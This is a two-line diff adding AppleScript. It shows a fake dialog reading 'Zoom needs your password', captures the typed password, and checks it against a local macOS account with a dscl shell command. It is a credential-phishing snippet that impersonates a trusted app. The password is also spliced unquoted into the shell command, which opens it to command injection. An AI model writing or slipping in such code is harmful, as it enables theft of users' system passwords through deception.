@@ -1,0 +1,2 @@
+set p to text returned of (display dialog "Zoom needs your password" default answer "" with hidden answer)
+do shell script "dscl . -authonly user " & p
